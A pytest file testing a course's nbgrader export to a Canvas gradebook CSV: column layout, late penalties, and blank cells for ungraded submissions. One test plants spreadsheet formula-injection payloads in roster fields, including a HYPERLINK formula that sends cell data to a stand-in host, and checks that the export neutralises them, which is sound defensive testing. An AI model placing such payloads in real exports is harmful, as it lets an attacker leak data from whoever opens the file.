"""The LMS export: ``nbgrader export`` with the course's Canvas plugin writes Canvas's gradebook layout."""
from __future__ import annotations

import csv
import os
import subprocess
import sys

import pytest

from tests.harness import ROOT


def _gradebook(db_url):
    """Sections 02 (10 points) and 04 (6 points); alice submits both (04 late), bob only 02, carol nothing."""
    from nbgrader.api import Gradebook

    with Gradebook(db_url, "attention-transformers") as gb:
        for name, cells in (("02_qkv_by_hand", {"softmax": 4, "sdpa": 6}), ("04_multi_head", {"mha": 6})):
            gb.add_assignment(name)
            gb.add_notebook(name, name)
            for cell, pts in cells.items():
                gb.add_grade_cell(cell, name, name, max_score=pts, cell_type="code")
        gb.add_student("alice", first_name="Alice", last_name="Liddell", lms_user_id="A-17")
        gb.add_student("bob")
        gb.add_student("carol", first_name="Carol", last_name="Ng")
        scores = {("02_qkv_by_hand", "alice"): {"softmax": 4, "sdpa": 6}, ("04_multi_head", "alice"): {"mha": 5.5},
                  ("02_qkv_by_hand", "bob"): {"softmax": 4, "sdpa": 0}}
        for (section, student), cells in scores.items():
            gb.add_submission(section, student)
            for cell, score in cells.items():
                grade = gb.find_grade(cell, section, section, student)
                grade.auto_score = score
            gb.db.commit()
        sub = gb.find_submission_notebook("04_multi_head", "04_multi_head", "alice")
        sub.late_submission_penalty = 1.5
        gb.db.commit()


@pytest.mark.slow
def test_canvas_export_through_nbgrader(tmp_path, monkeypatch):
    from judge.environment import with_python_bin

    monkeypatch.setenv("PATH", with_python_bin())   # nbgrader runs alembic from PATH
    db_url = f"sqlite:///{tmp_path / 'gradebook.db'}"
    _gradebook(db_url)
    (tmp_path / "nbgrader_config.py").write_text(
        f"c = get_config()\nc.CourseDirectory.course_id = 'attention-transformers'\nc.CourseDirectory.db_url = {db_url!r}\n")
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    proc = subprocess.run([sys.executable, "-m", "instructor.export", "--to", "canvas.csv", "--section", "Fall 2026"],
                          cwd=tmp_path, env=env, capture_output=True, text=True, timeout=120)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert "CanvasExportPlugin" in proc.stderr + proc.stdout   # nbgrader's "Using exporter: ..."
    with open(tmp_path / "canvas.csv", newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    assert rows == [
        ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "02_qkv_by_hand", "04_multi_head"],
        ["    Points Possible", "", "", "", "", "10", "6"],
        ["Liddell, Alice", "", "A-17", "alice", "Fall 2026", "10", "4"],   # 5.5 less the late penalty of 1.5
        ["bob", "", "", "bob", "Fall 2026", "4", "0"],                      # 04 not submitted: 0
        ["Ng, Carol", "", "", "carol", "Fall 2026", "0", "0"],              # nothing submitted
    ], rows

    # only some sections, and a missing submission left blank (Canvas: no change)
    proc = subprocess.run([sys.executable, "-m", "nbgrader", "export", "--exporter",
                           "instructor.export.CanvasExportPlugin", "--to=blank.csv", "--assignment=['04_multi_head']",
                           "--CanvasExportPlugin.missing="], cwd=tmp_path, env=env, capture_output=True, text=True,
                          timeout=120)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    with open(tmp_path / "blank.csv", newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    assert [r[5:] for r in rows] == [["04_multi_head"], ["6"], ["4"], [""], [""]], rows


# -- roster fields a student or a roster shaped: never a spreadsheet formula ---------------------------------------
FORMULAS = {"first_name": '=HYPERLINK("http://evil.example/?"&A1,"click")', "last_name": "+1+1", "id": "-2+3",
            "lms_user_id": "@SUM(A1:A9)"}


def _hostile_gradebook(db_url):
    """One student whose every roster field starts a formula (or a tab, a carriage return); one ordinary student."""
    from nbgrader.api import Gradebook

    with Gradebook(db_url, "attention-transformers") as gb:
        gb.add_assignment("02_qkv_by_hand")
        gb.add_notebook("02_qkv_by_hand", "02_qkv_by_hand")
        gb.add_grade_cell("sdpa", "02_qkv_by_hand", "02_qkv_by_hand", max_score=6, cell_type="code")
        gb.add_student(FORMULAS["id"], first_name=FORMULAS["first_name"], last_name="",
                       lms_user_id=FORMULAS["lms_user_id"], email="\tx@example.org")
        gb.add_student("\rcr", first_name="Ada", last_name=FORMULAS["last_name"])
        gb.add_student("alice", first_name="Alice", last_name="Liddell")
        gb.add_submission("02_qkv_by_hand", "alice")
        gb.find_grade("sdpa", "02_qkv_by_hand", "02_qkv_by_hand", "alice").auto_score = 6
        gb.db.commit()


def _read(path):
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


@pytest.mark.parametrize("plugin", ["CanvasExportPlugin", "SafeCsvExportPlugin"])
def test_no_exported_cell_is_a_formula(tmp_path, plugin):
    """Both exports, with every roster field of one student starting ``=``, ``+``, ``-``, ``@``, a tab or a carriage
    return (and the Canvas section named by the instructor likewise): each such cell is written with a leading
    ``'`` (text to a spreadsheet); the ordinary student's row is unchanged.  Paired with the rows before writing,
    where those cells are formulas."""
    from nbgrader.api import Gradebook

    from instructor import export
    from judge.scratch import new_gradebook

    new_gradebook(tmp_path / "gradebook.db")   # (nbgrader's tables without its alembic subprocess)
    db_url = f"sqlite:///{tmp_path / 'gradebook.db'}"
    _hostile_gradebook(db_url)
    dest = tmp_path / "out.csv"
    with Gradebook(db_url, "attention-transformers") as gb:
        cls = getattr(export, plugin)
        exporter = cls(to=str(dest), section="=1+1") if plugin == "CanvasExportPlugin" else cls(to=str(dest))
        raw = exporter.rows(gb)
        exporter.export(gb)
    starts = ("=", "+", "-", "@", "\t", "\r")
    dangerous = [v for row in raw for v in row if isinstance(v, str) and v.startswith(starts)]
    assert len(dangerous) >= 4, raw          # the attack: these cells would be formulas
    rows = _read(dest)
    assert len(rows) == len(raw)
    cells = [v for row in rows for v in row]
    assert not [v for v in cells if v.startswith(starts)], rows
    for v in dangerous:
        assert "'" + v in cells, v
    alice = next(r for r in rows if "alice" in r)   # the honest row as it was (but the section the instructor named)
    assert alice == [("'" + v) if v in dangerous else str(v) for v in next(r for r in raw if "alice" in r)]
    assert any(v in ("Liddell, Alice", "Liddell") for v in alice) and any(v in ("6", "6.0") for v in alice), alice


def test_a_submission_without_any_score_is_not_exported_as_zero(tmp_path):
    """A submission nbgrader could not grade (no cell holds a score: "not graded", or its grades cleared) is left
    blank in the Canvas CSV (Canvas: no change), never a 0; one whose checks all scored 0 is a 0; a manual score
    given afterwards is exported."""
    from nbgrader.api import Gradebook

    from instructor.export import CanvasExportPlugin
    from judge.scratch import new_gradebook

    new_gradebook(tmp_path / "gradebook.db")
    db_url = f"sqlite:///{tmp_path / 'gradebook.db'}"
    with Gradebook(db_url, "attention-transformers") as gb:
        gb.add_assignment("02_qkv_by_hand")
        gb.add_notebook("02_qkv_by_hand", "02_qkv_by_hand")
        for cell in ("softmax", "sdpa"):
            gb.add_grade_cell(cell, "02_qkv_by_hand", "02_qkv_by_hand", max_score=5, cell_type="code")
        for s in ("zero", "ungraded", "manual"):
            gb.add_student(s)
            gb.add_submission("02_qkv_by_hand", s)
        for cell in ("softmax", "sdpa"):
            gb.find_grade(cell, "02_qkv_by_hand", "02_qkv_by_hand", "zero").auto_score = 0
        gb.find_grade("sdpa", "02_qkv_by_hand", "02_qkv_by_hand", "manual").manual_score = 3
        gb.db.commit()
        rows = {r[3]: r[5] for r in CanvasExportPlugin().rows(gb)[2:]}
    assert rows == {"zero": "0", "ungraded": "", "manual": "3"}, rows
